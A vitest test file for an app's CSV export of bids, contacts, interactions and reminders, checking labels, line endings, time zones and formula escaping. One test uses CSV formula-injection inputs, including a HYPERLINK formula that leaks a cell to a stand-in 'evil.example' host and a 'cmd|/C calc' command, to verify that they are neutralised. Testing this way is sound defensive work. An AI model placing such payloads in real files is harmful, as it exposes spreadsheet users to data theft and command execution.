import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_LISTS, type CsvList } from '../../../../shared/domain';
import { fieldLabel } from '../../../../shared/field-labels';
import { createBidSchema, saveContactSchema, type CreateBidInput } from '../../../../shared/schemas';
import { bidInput } from '../../test-support/bid-input';
import { call } from '../../test-support/call';
import { refusal } from '../../test-support/refusal';
import { TEST_NOW } from '../../test-support/temp-database';
import { machinesPerTest, type Machine } from '../../test-support/transfer';
import { localDateTimeAt } from '../contracts/calendar-days';
import { csvText } from './csv-text';

const newMachine = machinesPerTest();

const BID_HEADER = [
  'Title', 'Client', 'Agency', 'Recruiter', 'Hiring manager', 'Stage', 'Source', 'Engagement', 'Rate amount', 'Currency', 'Rate unit',
  'Duration', 'Duration unit', 'Expected start', 'Expected end', 'Location', 'Remote mode', 'IR35 status', 'Priority', 'Tags', 'Notes', 'Brief',
  'Stage changed', 'Archived', 'Created', 'Updated', 'uid',
];
const CONTACT_HEADER = ['Name', 'Title', 'Kind', 'Organisation', 'Email', 'Phone', 'Profile link', 'Key partner', 'Cadence', 'Last contact', 'Notes', 'Created', 'Updated', 'uid'];
const INTERACTION_HEADER = ['Date', 'Time', 'Channel', 'Contacts', 'Bid', 'Summary', 'Created', 'Updated', 'uid'];
const REMINDER_HEADER = ['Title', 'Kind', 'Due date', 'Due time', 'Status', 'Snoozed until', 'Note', 'Contact', 'Bid', 'Closed', 'Created', 'Updated', 'uid'];
const HEADERS: Record<CsvList, string[]> = { bids: BID_HEADER, contacts: CONTACT_HEADER, interactions: INTERACTION_HEADER, reminders: REMINDER_HEADER };

/** The list as a spreadsheet reads it: its text, its header, and a row per line as header → cell. */
function exportList(machine: Machine, list: CsvList) {
  const { fileName, text } = call(machine.api, 'exportCsv', { list });
  const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return { fileName, text, header: parsed.meta.fields ?? [], rows: parsed.data };
}

function addBid(machine: Machine, overrides: Partial<CreateBidInput> = {}) {
  return machine.api.createBid(createBidSchema.parse(bidInput(overrides)));
}

describe('CSV export of a list', () => {
  it('writes bids for a spreadsheet: byte-order mark, CRLF, the app’s labels, names of linked records and the words the UI shows', () => {
    const machine = newMachine();
    const first = addBid(machine, { stage: 'shortlisted', tags: ['finance', 'PE-backed'], hiringManager: { name: 'Sam Reyes' }, priority: 3 });
    const second = addBid(machine, {
      title: 'Directeur financier « intérim »',
      client: { name: 'Société Générale — Zürich' },
      agency: null,
      recruiter: null,
      source: 'referral',
      engagement: 'fixed_term',
      rate: { amount: 1250.5, currency: 'EUR', unit: 'hour' },
      durationValue: null,
      expectedStart: null,
      expectedEnd: null,
      remoteMode: null,
      ir35: 'unknown',
      tags: [],
      notes: 'He said "yes, gladly",\nthen wrote:\r\n"not yet"',
    });
    machine.api.setArchived({ id: second.id, archived: true });

    const { fileName, text, header, rows } = exportList(machine, 'bids');
    expect(fileName).toBe('stint-bids-2026-03-02.csv');
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    // Outside quoted cells (the notes keep their own line breaks), every line ends in CRLF: the header and two bids.
    const unquoted = text.replace(/"(?:[^"]|"")*"/g, '');
    expect(unquoted.match(/\r\n/g)).toHaveLength(3);
    expect(unquoted.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(header).toEqual(BID_HEADER);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toEqual({
      Title: 'Interim Finance Director',
      Client: 'Northbridge Logistics',
      Agency: 'Blue Quay Interim',
      Recruiter: 'Priya Patel',
      'Hiring manager': 'Sam Reyes',
      Stage: 'Shortlisted',
      Source: 'Agency',
      Engagement: 'Interim',
      'Rate amount': '850',
      Currency: 'GBP',
      'Rate unit': 'per day',
      Duration: '6',
      'Duration unit': 'months',
      'Expected start': '2026-04-01',
      'Expected end': '2026-09-30',
      Location: 'Manchester',
      'Remote mode': 'Hybrid',
      'IR35 status': 'Outside IR35',
      Priority: 'High',
      Tags: 'finance, PE-backed',
      Notes: '',
      Brief: 'Lead the finance function through an ERP migration.',
      'Stage changed': localDateTimeAt(first.stageChangedAt),
      Archived: 'No',
      Created: localDateTimeAt(first.createdAt),
      Updated: localDateTimeAt(first.updatedAt),
      uid: expect.stringMatching(/^[0-9a-f]{8}-[0-9a-f]{4}-7/),
    });
    expect(rows[1]).toMatchObject({
      Title: 'Directeur financier « intérim »',
      Client: 'Société Générale — Zürich',
      Agency: '',
      Recruiter: '',
      Source: 'Referral',
      Engagement: 'Fixed-term',
      'Rate amount': '1250.5',
      Currency: 'EUR',
      'Rate unit': 'per hour',
      Duration: '',
      'Duration unit': '',
      'Expected start': '',
      'Remote mode': '',
      'IR35 status': 'IR35 unknown',
      Tags: '',
      Notes: 'He said "yes, gladly",\nthen wrote:\r\n"not yet"',
      Archived: 'Yes',
    });
    expect(new Set(rows.map((row) => row.uid)).size).toBe(2);
  });

  it('heads bids and contacts with the labels of the fields they were typed into, so that an import maps them back by itself', () => {
    const own = new Set(['Stage changed', 'Last contact', 'Created', 'Updated', 'uid']);
    const bidFields = ['title', 'client', 'agency', 'recruiter', 'hiringManager', 'stage', 'source', 'engagement', 'rate.amount', 'rate.currency', 'rate.unit',
      'durationValue', 'durationUnit', 'expectedStart', 'expectedEnd', 'location', 'remoteMode', 'ir35', 'priority', 'tags', 'notes', 'briefText', 'archived'];
    expect(BID_HEADER.filter((header) => !own.has(header))).toEqual(bidFields.map((path) => fieldLabel(path.split('.'))));
    const contactFields = ['name', 'title', 'contactKind', 'organisation', 'email', 'phone', 'profileUrl', 'keyPartner', 'cadenceDays', 'notes'];
    expect(CONTACT_HEADER.filter((header) => !own.has(header))).toEqual(contactFields.map((path) => fieldLabel([path])));
  });

  it('puts a quote before text a spreadsheet would run as a formula, and leaves numbers as numbers', () => {
    const machine = newMachine();
    addBid(machine, {
      title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      client: { name: '@SUM(1)' },
      location: '+1+1',
      notes: '-2',
      briefText: '\tcmd|/C calc',
    });
    addBid(machine, { title: 'Two lines', notes: '=1+1\nsecond line', briefText: '\r\n=2+2', location: 'a = b, c + d' });
    const { rows } = exportList(machine, 'bids');
    expect(rows[0]).toMatchObject({
      Title: '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      Client: "'@SUM(1)",
      Location: "'+1+1",
      Notes: "'-2",
      Brief: "'\tcmd|/C calc",
      'Rate amount': '850',
    });
    // Papaparse's own escapeFormulae misses these: its pattern stops at the first line break.
    expect(rows[1]).toMatchObject({ Notes: "'=1+1\nsecond line", Brief: "'\r\n=2+2", Location: 'a = b, c + d' });

    // A negative number stays a number a spreadsheet can add; the same characters as text are neutralised.
    const text = csvText([{ header: 'Amount', cell: (row: { amount: number | string }) => row.amount }], [{ amount: -2 }, { amount: '-2' }, { amount: 0.5 }]);
    expect(text).toBe('\uFEFFAmount\r\n-2\r\n"\'-2"\r\n0.5\r\n');
  });

  it('writes contacts with their organisation, kind, key partner and last contact', () => {
    const machine = newMachine();
    const saved = machine.api.saveContact(saveContactSchema.parse({
      contactId: null, name: 'Zoë O’Brien', title: 'Talent Partner', contactKind: 'recruiter', organisation: { name: 'Hays' },
      email: 'zoe@hays.example', phone: '+44 161 000 0000', profileUrl: 'https://www.linkedin.com/in/zoe', keyPartner: true, cadenceDays: 21, notes: 'Prefers calls',
    }));
    machine.api.saveContact(saveContactSchema.parse({
      contactId: null, name: 'Sam Reyes', title: '', contactKind: null, organisation: null, email: '', phone: '', profileUrl: '', keyPartner: false, cadenceDays: null, notes: '',
    }));
    call(machine.api, 'logInteraction', { date: '2026-02-27', time: '14:05', channel: 'call', contacts: [{ id: saved.id }], bidId: null, summary: '' });
    const { header, rows } = exportList(machine, 'contacts');
    expect(header).toEqual(CONTACT_HEADER);
    expect(rows).toEqual([
      {
        Name: 'Zoë O’Brien', Title: 'Talent Partner', Kind: 'Recruiter', Organisation: 'Hays', Email: 'zoe@hays.example',
        // A phone number's + is neutralised like any other: the spreadsheet would read it as a sum.
        Phone: "'+44 161 000 0000",
        'Profile link': 'https://www.linkedin.com/in/zoe', 'Key partner': 'Yes', Cadence: '21', 'Last contact': '2026-02-27 14:05', Notes: 'Prefers calls',
        Created: localDateTimeAt(TEST_NOW), Updated: expect.any(String), uid: expect.any(String),
      },
      expect.objectContaining({ Name: 'Sam Reyes', Title: '', Kind: '', Organisation: '', 'Key partner': 'No', Cadence: '', 'Last contact': '' }),
    ]);
  });

  it('writes interactions with the people in them and their bid, and reminders with their due date and what they are about', () => {
    const machine = newMachine();
    const bid = addBid(machine, { hiringManager: { name: 'Sam Reyes' } });
    const contacts = [bid.recruiter?.id ?? 0, bid.hiringManager?.id ?? 0].map((id) => ({ id }));
    call(machine.api, 'logInteraction', { date: '2026-02-27', time: '14:05', channel: 'coffee', contacts, bidId: bid.id, summary: 'Talked about the ERP plan' });
    call(machine.api, 'createReminder', { title: 'Send the updated CV', note: 'The 2-page one', dueDate: '2026-03-05', dueTime: '09:30', contactId: contacts[0]?.id ?? null, bidId: bid.id });
    const done = call(machine.api, 'createReminder', { title: 'Book the train', note: '', dueDate: '2026-03-04', dueTime: null, contactId: null, bidId: null });
    call(machine.api, 'completeReminder', { reminderId: done.id });

    const interactions = exportList(machine, 'interactions');
    expect(interactions.header).toEqual(INTERACTION_HEADER);
    expect(interactions.rows).toEqual([
      expect.objectContaining({ Date: '2026-02-27', Time: '14:05', Channel: 'Coffee', Contacts: 'Priya Patel, Sam Reyes', Bid: 'Interim Finance Director', Summary: 'Talked about the ERP plan' }),
    ]);

    const reminders = exportList(machine, 'reminders');
    expect(reminders.header).toEqual(REMINDER_HEADER);
    const byTitle = new Map(reminders.rows.map((row) => [row.Title, row]));
    expect(byTitle.get('Send the updated CV')).toMatchObject({
      Kind: 'Your reminder', 'Due date': '2026-03-05', 'Due time': '09:30', Status: 'Open', 'Snoozed until': '', Note: 'The 2-page one',
      Contact: 'Priya Patel', Bid: 'Interim Finance Director', Closed: '',
    });
    expect(byTitle.get('Book the train')).toMatchObject({ 'Due date': '2026-03-04', 'Due time': '09:00', Status: 'Done', Closed: localDateTimeAt(machine.clock.now()) });
  });

  it('writes times in the user’s time zone', () => {
    const zone = process.env.TZ;
    process.env.TZ = 'America/New_York';
    try {
      const machine = newMachine();
      addBid(machine);
      // 2026-03-02 09:00 UTC is 04:00 in New York (EST, UTC−5).
      expect(exportList(machine, 'bids').rows[0]).toMatchObject({ Created: '2026-03-02 04:00', 'Stage changed': '2026-03-02 04:00' });
    } finally {
      if (zone === undefined) delete process.env.TZ;
      else process.env.TZ = zone;
    }
  });

  it.each(CSV_LISTS)('writes an empty list of %s as its header alone', (list) => {
    const { text, header, rows } = exportList(newMachine(), list);
    expect(text).toBe(`\uFEFF${HEADERS[list].join(',')}\r\n`);
    expect(header).toEqual(HEADERS[list]);
    expect(rows).toEqual([]);
  });

  it('refuses a list it does not write, naming the field', () => {
    const refused = refusal(() => call(newMachine().api, 'exportCsv', { list: 'organisations' } as never));
    expect(refused.message).toBe('List must be one of: bids, contacts, interactions, reminders');
  });
});
